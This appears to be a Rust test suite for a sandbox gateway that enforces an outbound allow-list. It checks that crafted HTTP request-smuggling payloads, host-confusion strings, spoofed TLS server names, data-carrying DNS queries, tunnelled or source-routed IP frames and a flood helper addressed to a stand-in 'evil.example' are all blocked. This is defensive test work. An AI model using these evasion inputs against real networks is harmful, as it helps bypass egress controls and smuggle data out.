//! A guest under an allow-list writes its own requests, queries and frames to get out; the internet
//! counts what it sees, down to the packet.
//!
//! What an ordinary program would try is in `ways_out`.

use std::sync::atomic::{AtomicBool, Ordering};

use hickory_proto::op::{Message, Query};
use hickory_proto::rr::{DNSClass, Name, RecordType};
use smoltcp::wire::{Ipv4Packet, Ipv6Packet};

use crate::guest::{Ended, Guest, Stream, datagram, with_ethernet};
use crate::ways_out::{hello, request, say};
use crate::world::World;

const POLICY: &str = "+good.example:80 +good.example:443 +*.sub.example:443";
const GOOD: &str = "203.0.113.7:80";
const GOOD_TLS: &str = "203.0.113.7:443";
const EVIL: [u8; 4] = [203, 0, 113, 66];
const EVIL6: [u8; 16] = [0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 7];

/// A world whose guest knows two names, and what the internet has seen of that.
fn world() -> (World, Guest) {
    let world = World::new();
    [53, 80, 443, 8080].into_iter().for_each(|port| world.serve_echo(port));
    for at in ["203.0.113.66:53", "203.0.113.66:6000", "[2001:db8::7]:6000"] {
        world.serve_datagrams(at);
    }
    world.name("good.example", &["203.0.113.7"]);
    world.name("a.sub.example", &["203.0.113.8"]);
    world.name("evil.example", &["203.0.113.66"]);
    let guest = world.guest(POLICY);
    for name in ["good.example", "a.sub.example"] {
        guest.look_up(name).unwrap();
    }
    world.seen.queries.lock().unwrap().clear();
    (world, guest)
}

/// Nothing that has been said arrived, but for what is `allowed`.
fn check(world: &World, allowed: &[&str]) {
    let connections = world.seen.connections.lock().unwrap();
    let mut said: Vec<_> = connections.iter().map(|(_, it)| String::from_utf8_lossy(it)).collect();
    said.retain(|said| !said.is_empty());
    assert_eq!(said, allowed);
    let mut reached = connections.iter().map(|(at, _)| at.ip().to_string());
    assert!(reached.all(|at| at == "203.0.113.7" || at == "203.0.113.8"));
    assert_eq!(*world.seen.datagrams.lock().unwrap(), []);
}

#[test]
fn requests_that_can_be_read_in_two_ways_do_not_arrive() {
    let (world, guest) = world();
    let hosts = [
        "evil.example",
        "EVIL.EXAMPLE",
        "evil.example.",
        "evil.example:80",
        "good.example@evil.example",
        "good.example.evil.example",
        "evil.example/good.example",
        "good.example evil.example",
        "good.example,evil.example",
        "good.example\0.evil.example",
        "evil.example#good.example",
        "203.0.113.66",
        "203.0.113.7",
        "3405803842",
        "0313.0.0161.0102",
        "0xcb.0x0.0x71.0x42",
        "[2001:db8::7]",
        "[::ffff:203.0.113.66]",
        "xn--evil.example",
        "",
    ];
    for host in hosts {
        let said = say(&guest, GOOD, request(host).as_bytes());
        assert!(said.is_err(), "host {host:?}");
    }
    let crafted: [&[u8]; 17] = [
        b"GET / HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: evil.example\r\nHost: good.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: good.example\r\n evil.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nX: y\r\n\tHost: good.example\r\nHost: evil.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost : good.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: good.example\nHost: evil.example\r\n\r\n",
        b"GET / HTTP/1.1\nHost: evil.example\n\n",
        b"GET / HTTP/1.0\r\n\r\n",
        b"GET https://evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n",
        b"GET //evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        b"OPTIONS http://evil.example HTTP/1.1\r\nHost: good.example\r\n\r\n",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\n\
          Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\nContent-Length: 5\r\n\
          \r\nabcde",
        b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: +4\r\n\r\nabcd",
        b"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked, identity\r\n\r\n\
          0\r\n\r\n",
    ];
    for first in crafted {
        let shown = String::from_utf8_lossy(first);
        assert!(say(&guest, GOOD, first).is_err(), "{shown}");
    }
    check(&world, &[]);
}

#[test]
fn a_second_request_does_not_arrive_however_it_is_hidden() {
    let (world, guest) = world();
    let (good, evil) = (request("good.example"), request("evil.example"));
    let chunked = "POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n";
    let upgrade =
        "GET / HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n";
    let firsts = [
        // Pipelined.
        good.clone(),
        // Behind the last chunk, with and without a trailer.
        format!("{chunked}4\r\nabcd\r\n0\r\n\r\n"),
        format!("{chunked}0\r\nX: y\r\n\r\n"),
        // The server has not agreed to another protocol.
        upgrade.to_owned(),
        // Behind a body.
        "POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\n\r\nabcd".to_owned(),
        // A request that has no body.
        "HEAD / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\n\r\n".to_owned(),
    ];
    for first in &firsts {
        let stream = guest.connect(GOOD).unwrap();
        stream.write_all(format!("{first}{evil}").as_bytes()).unwrap();
        assert_eq!(stream.read_all(), Err(Ended::Reset), "{first}");
    }
    // Chunks whose ends are told in two ways.
    for body in ["4\nabcd\n0\n\n", "4;a=\n\r\nabcd\r\n0\r\n\r\n", "0x4\r\nabcd\r\n", "-1\r\n"] {
        let stream = guest.connect(GOOD).unwrap();
        stream.write_all(format!("{chunked}{body}{evil}").as_bytes()).unwrap();
        assert_eq!(stream.read_all(), Err(Ended::Reset), "{body}");
    }
    let connections = world.seen.connections.lock().unwrap();
    assert!(connections.iter().all(|(_, said)| !String::from_utf8_lossy(said).contains("evil")));
}

/// Writes bytes one after the other, each in a segment of its own.
fn drip(stream: &Stream, bytes: &[u8]) -> Result<(), Ended> {
    bytes.chunks(1).try_for_each(|byte| stream.write_all(byte))
}

#[test]
fn server_names_are_read_however_they_are_sent() {
    let (world, guest) = world();
    let evil = hello("evil.example");
    // In segments of a byte.
    let stream = guest.connect(GOOD_TLS).unwrap();
    drip(&stream, &evil).ok();
    assert_eq!(stream.read_all(), Err(Ended::Reset));
    // In records of 100 bytes.
    let records: Vec<u8> = evil[5..]
        .chunks(100)
        .flat_map(|part| [&[22, 3, 1, 0, u8::try_from(part.len()).unwrap()], part].concat())
        .collect();
    assert!(say(&guest, GOOD_TLS, &records).is_err(), "several records");
    // Names that differ from the allowed one in what a reader may not see.
    for name in ["GOOD.EVILISH", "good-example", "good.exampl\0", "good.exampl.", "*.sub.exampl"] {
        let mut bytes = hello("good.example");
        let at = bytes.windows(12).position(|it| it == b"good.example").unwrap();
        bytes[at..at + 12].copy_from_slice(name.as_bytes());
        assert!(say(&guest, GOOD_TLS, &bytes).is_err(), "{name:?}");
    }
    // Two names: the list says how long it is, so there is room for one.
    let mut bytes = hello("good.example");
    let at = bytes.windows(12).position(|it| it == b"good.example").unwrap();
    // A kind of name that nobody knows.
    bytes[at - 3] = 1;
    assert!(say(&guest, GOOD_TLS, &bytes).is_err(), "another kind of name");
    // The name of the other allowed host, which has another address.
    assert!(say(&guest, GOOD_TLS, &hello("a.sub.example")).is_err());
    assert!(say(&guest, "203.0.113.8:443", &hello("sub.example")).is_err(), "not below itself");
    // To a resolver by HTTPS, over an allowed address.
    assert!(say(&guest, GOOD_TLS, &hello("dns.google")).is_err());
    check(&world, &[]);
}

fn query(name: Name, kind: RecordType) -> Message {
    let mut message = Message::query();
    message.metadata.recursion_desired = true;
    message.add_query(Query::query(name, kind));
    message
}

#[test]
fn no_query_carries_anything_out() {
    let (world, guest) = world();
    let name = |text: &str| Name::from_ascii(text).unwrap();
    let labels = |labels: &[&[u8]]| Name::from_labels(labels.to_vec()).unwrap();
    let long = "x".repeat(63);
    let names = [
        name("evil.example."),
        name("EVIL.Example."),
        name("good.example.evil.example."),
        name("secret.good.example."),
        name("sub.example."),
        name(&format!("{long}.evil.example.")),
        name("_dns.resolver.arpa."),
        name("resolver.local."),
        name("66.113.0.203.in-addr.arpa."),
        Name::root(),
        labels(&[b"good.example"]),
        labels(&[b"good\0", b"example"]),
        labels(&[b"evil.a", b"sub", b"example"]),
        labels(&[b"\xff\xfe", b"sub", b"example"]),
    ];
    for server in ["10.42.0.1:53", "203.0.113.66:53", "[2001:db8::53]:53"] {
        for name in &names {
            let message = query(name.clone(), RecordType::A).to_vec().unwrap();
            let reply = guest.exchange(server, 5000, &message).expect("an answer");
            assert!(Message::from_vec(&reply).unwrap().answers.is_empty(), "{name} at {server}");
        }
    }
    let kinds = [
        RecordType::SRV,
        RecordType::TXT,
        RecordType::MX,
        RecordType::NULL,
        RecordType::NS,
        RecordType::CNAME,
        RecordType::Unknown(65_280),
    ];
    for kind in kinds {
        let message = query(name("evil.example."), kind).to_vec().unwrap();
        guest.exchange("10.42.0.1:53", 5000, &message).expect("an answer");
    }
    // Names that are allowed, in messages that say more than a name.
    let good = || query(name("good.example."), RecordType::A);
    for kind in [RecordType::HTTPS, RecordType::SVCB, RecordType::ANY, RecordType::AXFR] {
        let message = query(name("good.example."), kind).to_vec().unwrap();
        guest.exchange("10.42.0.1:53", 5000, &message).expect("an answer");
    }
    let mut two = good();
    two.add_query(Query::query(name("evil.example."), RecordType::A));
    let mut chaos = good();
    chaos.queries[0].set_query_class(DNSClass::CH);
    for message in [two, chaos] {
        guest.exchange("10.42.0.1:53", 5000, &message.to_vec().unwrap()).expect("an answer");
    }
    for code in [1, 2, 4, 5] {
        let mut bytes = good().to_vec().unwrap();
        bytes[2] |= code << 3;
        guest.send_frame(&datagram("10.42.0.1:53".parse().unwrap(), 5001, &bytes));
    }
    // An answer that nobody asked for.
    let mut answer = good().to_vec().unwrap();
    answer[2] |= 0x80;
    guest.send_frame(&datagram("10.42.0.1:53".parse().unwrap(), 5002, &answer));
    pipeline_queries(&guest);
    assert_eq!(*world.seen.queries.lock().unwrap(), ["good.example"], "of the pipeline");
    check(&world, &[]);
}

/// Three queries at once in a stream, of which one is allowed.
fn pipeline_queries(guest: &Guest) {
    let stream = guest.connect("203.0.113.66:53").unwrap();
    let mut framed = Vec::new();
    for name in ["evil.example.", "good.example.", "b.evil.example."] {
        let message = query(Name::from_ascii(name).unwrap(), RecordType::A).to_vec().unwrap();
        framed.extend(u16::try_from(message.len()).unwrap().to_be_bytes());
        framed.extend(message);
    }
    stream.write_all(&framed).unwrap();
    let (mut got, mut answers) = (Vec::new(), 0);
    while answers < 3 {
        got.extend(stream.read().unwrap());
        while got.len() > 2 && got.len() >= 2 + usize::from(u16::from_be_bytes([got[0], got[1]])) {
            got.drain(..2 + usize::from(u16::from_be_bytes([got[0], got[1]])));
            answers += 1;
        }
    }
}

/// A packet of IPv4: to the host that is not allowed, from the guest, if `from` says nothing else.
fn ipv4(protocol: u8, options: &[u8], fragment: u16, from: [u8; 4], payload: &[u8]) -> Vec<u8> {
    let header = 20 + options.len();
    let mut packet = vec![0; header];
    packet[0] = 0x40 | u8::try_from(header / 4).unwrap();
    packet[2..4].copy_from_slice(&u16::try_from(header + payload.len()).unwrap().to_be_bytes());
    packet[6..8].copy_from_slice(&fragment.to_be_bytes());
    (packet[8], packet[9]) = (64, protocol);
    packet[12..16].copy_from_slice(&from);
    packet[16..20].copy_from_slice(&EVIL);
    packet[20..].copy_from_slice(options);
    packet.extend_from_slice(payload);
    Ipv4Packet::new_unchecked(&mut packet).fill_checksum();
    with_ethernet(&packet)
}

fn ipv6(next: u8, payload: &[u8]) -> Vec<u8> {
    let mut packet = vec![0; 40];
    packet[0] = 0x60;
    packet[4..6].copy_from_slice(&u16::try_from(payload.len()).unwrap().to_be_bytes());
    (packet[6], packet[7]) = (next, 64);
    packet[24..40].copy_from_slice(&EVIL6);
    packet.extend_from_slice(payload);
    let mut checked = Ipv6Packet::new_unchecked(&mut packet);
    checked.set_src_addr(forkd_types::network::GUEST_IPV6);
    with_ethernet(&packet)
}

/// What is between the addresses: datagrams without a checksum, and the first segment of a
/// connection.
fn udp() -> Vec<u8> {
    [[0x17, 0x70, 0x17, 0x70, 0, 12, 0, 0], *b"outbound"].concat()[..12].to_vec()
}

fn syn() -> Vec<u8> {
    let mut segment = vec![0x17, 0x70, 0, 80, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 0xff, 0xff];
    segment.extend([0, 0, 0, 0]);
    segment.extend(b"data with it");
    segment
}

fn crafted_frames() -> Vec<(&'static str, Vec<u8>)> {
    const GUEST: [u8; 4] = [10, 42, 0, 2];
    // The first hop is an allowed address, the last one is not.
    let loose = [0x83, 7, 8, EVIL[0], EVIL[1], EVIL[2], EVIL[3], 0];
    let strict = [0x89, 7, 4, 203, 0, 113, 7, 0];
    let mut frames = vec![
        ("a datagram", ipv4(17, &[], 0, GUEST, &udp())),
        ("a datagram with a source route", ipv4(17, &loose, 0, GUEST, &udp())),
        ("a segment with a source route", ipv4(6, &strict, 0, GUEST, &syn())),
        ("a segment with data", ipv4(6, &[], 0, GUEST, &syn())),
        ("a segment of no connection", {
            let mut ack = syn();
            ack[13] = 0x10;
            ipv4(6, &[], 0, GUEST, &ack)
        }),
        ("a first fragment", ipv4(17, &[], 0x2000, GUEST, &udp())),
        ("a last fragment", ipv4(17, &[], 2, GUEST, &udp())),
        ("a fragment of a segment", ipv4(6, &[], 0x2000, GUEST, &syn()[..8])),
        ("another's address", ipv4(17, &[], 0, [203, 0, 113, 9], &udp())),
        ("the host's address", ipv4(17, &[], 0, [192, 0, 2, 1], &udp())),
        ("an echo with a payload", ipv4(1, &[], 0, GUEST, b"\x08\x00\x00\x00\0\x01\0\x01secret")),
        ("a time stamp", ipv4(1, &[], 0, GUEST, &[13; 20])),
        ("a redirect", ipv4(1, &[], 0, GUEST, &[5; 28])),
        ("an error with a payload", ipv4(1, &[], 0, GUEST, &[3; 64])),
    ];
    for (name, protocol) in [
        ("IGMP", 2),
        ("IPv4 in IPv4", 4),
        ("IPv6 in IPv4", 41),
        ("GRE", 47),
        ("ESP", 50),
        ("AH", 51),
        ("OSPF", 89),
        ("SCTP", 132),
        ("UDP-Lite", 136),
        ("raw", 255),
    ] {
        let inner = ipv4(17, &[], 0, GUEST, &udp());
        frames.push((name, ipv4(protocol, &[], 0, GUEST, &inner[14..])));
    }
    for (name, header) in [
        ("hop-by-hop options", 0),
        ("a routing header", 43),
        ("a fragment header", 44),
        ("destination options", 60),
        ("a shim header", 140),
    ] {
        for (inside, next) in [(udp(), 17), (syn(), 6)] {
            let extension = [next, 0, 1, 4, 0, 0, 0, 0];
            frames.push((name, ipv6(header, &[&extension[..], &inside].concat())));
        }
    }
    frames.push(("an IPv6 datagram", ipv6(17, &udp())));
    frames.push(("an IPv6 echo", ipv6(58, b"\x80\x00\x00\x00\0\x01\0\x01secret")));
    frames.push(("a router advertisement", ipv6(58, &[134; 16])));
    let mut tagged = ipv4(17, &[], 0, GUEST, &udp());
    tagged.splice(12..12, [0x81, 0, 0, 5]);
    frames.push(("a VLAN", tagged));
    let mut other = ipv4(17, &[], 0, GUEST, &udp());
    other[12..14].copy_from_slice(&[0x88, 0xb5]);
    frames.push(("another protocol than IP", other));
    frames
}

fn datagrams_to_everybody() -> Vec<(&'static str, Vec<u8>)> {
    [
        ("mDNS", "224.0.0.251:5353"),
        ("mDNS to one host", "203.0.113.66:5353"),
        ("mDNS by IPv6", "[ff02::fb]:5353"),
        ("LLMNR", "224.0.0.252:5355"),
        ("LLMNR to one host", "203.0.113.66:5355"),
        ("SSDP", "239.255.255.250:1900"),
        ("NetBIOS", "255.255.255.255:137"),
        ("DHCP", "255.255.255.255:67"),
        ("DHCP by IPv6", "[ff02::1:2]:547"),
        ("QUIC", "203.0.113.7:443"),
        ("DNS over QUIC", "203.0.113.66:853"),
        ("NTP", "203.0.113.66:123"),
        ("STUN", "203.0.113.66:3478"),
        ("WireGuard", "203.0.113.66:51820"),
    ]
    .into_iter()
    .map(|(name, to)| (name, datagram(to.parse().unwrap(), 6000, b"outbound")))
    .collect()
}

#[test]
fn no_packet_of_a_crafted_frame_arrives() {
    let (world, guest) = world();
    // The names were asked for by datagrams, and nothing else goes on.
    let before = world.packets_seen();
    let frames = [crafted_frames(), datagrams_to_everybody()].concat();
    for (name, frame) in &frames {
        guest.send_frame(frame);
        // Behind it: a name that must be refused, so the frame has been looked at.
        assert_eq!(guest.look_up_beside("evil.example"), None, "{name}");
        assert_eq!(world.packets_seen(), before, "{name} got out");
    }
    println!("{} crafted frames", frames.len());
    check(&world, &[]);
    // What is counted are packets: one that is allowed counts.
    guest.look_up_beside("good.example").unwrap();
    assert_ne!(world.packets_seen(), before);
}

/// Sends first segments, queries and datagrams as fast as the gateway takes them; how many.
pub(crate) fn flood(guest: &Guest, ended: &AtomicBool) -> usize {
    let query = query(Name::from_ascii("flood.example.").unwrap(), RecordType::A);
    let query = query.to_vec().unwrap();
    let mut sent = 0;
    for port in (1024..u16::MAX).cycle() {
        if ended.load(Ordering::Relaxed) {
            break;
        }
        let mut segment = syn();
        segment[..2].copy_from_slice(&port.to_be_bytes());
        guest.send_frame(&ipv4(6, &[], 0, [10, 42, 0, 2], &segment));
        guest.send_frame(&datagram("10.42.0.1:53".parse().unwrap(), port, &query));
        guest.send_frame(&datagram("203.0.113.7:6000".parse().unwrap(), port, b"flood"));
        sent += 3;
    }
    sent
}
